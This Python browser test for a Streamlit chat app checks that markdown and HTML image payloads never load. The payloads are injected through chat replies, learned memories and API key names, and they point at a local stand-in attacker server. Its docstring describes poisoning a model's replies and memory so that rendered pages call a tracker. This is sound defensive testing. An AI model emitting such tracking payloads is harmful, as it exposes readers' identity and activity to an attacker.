"""Threat model: text someone else wrote makes the reader's browser call out.

Attacker: whoever can put words in front of a reader — in a message the model repeats, in a
memory (the pipeline learns from chats; the API stores any text), in an API key's name, a user
agent or an email an admin looks at. Goal: markdown such as ``![](https://tracker/?who=...)``
that the browser fetches the moment the page renders, telling the attacker who read it, when,
and from where; repeated on every page that shows the text again (the memory panel, the
Memories page, the history).

What must hold, in a real browser: rendering model replies (streamed and stored), memory text,
key names and session details never loads anything from anywhere. The text stays readable: an
image becomes a link, raw HTML is shown as text.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect

from tests.test_browser import (  # noqa: F401 - fixtures: a real `streamlit run app.py` and Chromium
    CHROMIUM,
    SLOW,
    browser,
    context,
    fill,
    open_page,
    open_tab,
    page,
    register,
    select_row,
    server,
    stub,
    shot,
    wait_idle,
)

pytestmark = [
    pytest.mark.timeout(300),
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium: run scripts/setup.sh --dev"),
]


class Tracker:
    """A loopback web server that records every request: the attacker's end."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's naming
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *args) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def tracker() -> Iterator[Tracker]:
    t = Tracker()
    try:
        yield t
    finally:
        t.close()


def say(page: Page, text: str) -> None:
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill(text)
    box.press("Enter")
    expect(page.get_by_test_id("stChatMessage").filter(has_text="You said:").last).to_be_visible()
    wait_idle(page)


def test_injected_images_and_html_never_load_on_any_page(page: Page, tracker: Tracker):
    injected = (f"Remember that my avatar is ![avatar]({tracker.base}/memory.png) and "
                f"<img src=\"{tracker.base}/html.png\"> and ![ref][t] [t]: {tracker.base}/ref.png")
    register(page, "pixel-reader")
    say(page, injected)  # streamed reply (test:echo repeats it), then the stored reply and the message
    panel = page.get_by_test_id("stExpander").filter(has_text=re.compile(r"Memory · .* 1 change"))
    expect(panel).to_be_visible(timeout=30_000)  # the pipeline learned the text as a memory
    panel.get_by_text(re.compile(r"^Memory ·")).click()
    wait_idle(page)
    say(page, "What does my avatar look like?")  # the memory is recalled into the next reply's panel
    page.get_by_test_id("stExpander").filter(has_text="recalled").last.get_by_text(re.compile(r"^Memory ·")).click()
    wait_idle(page)
    shot(page, "31-rendering-chat")
    # The text is there, as links: the test looked at the right thing.
    expect(page.locator(f'a[href="{tracker.base}/memory.png"]').first).to_be_visible()
    expect(page.get_by_text(f'<img src="{tracker.base}/html.png">').first).to_be_visible()

    page.reload()
    wait_idle(page, SLOW)
    open_page(page, "/memories")
    select_row(page, 0)  # the memory's editor and its history, with the text in them
    expect(page.get_by_text("History", exact=True)).to_be_visible()
    shot(page, "32-rendering-memories")

    open_page(page, "/settings")
    open_tab(page, "API keys")
    fill(page, "Name", f"![key]({tracker.base}/key.png)")
    page.get_by_role("button", name="Create key").click()
    wait_idle(page)
    expect(page.locator(f'a[href="{tracker.base}/key.png"]').first).to_be_attached()
    shot(page, "33-rendering-settings")

    page.wait_for_timeout(1_000)  # let anything the pages asked for arrive
    assert tracker.hits == [], f"the browser fetched {tracker.hits}"
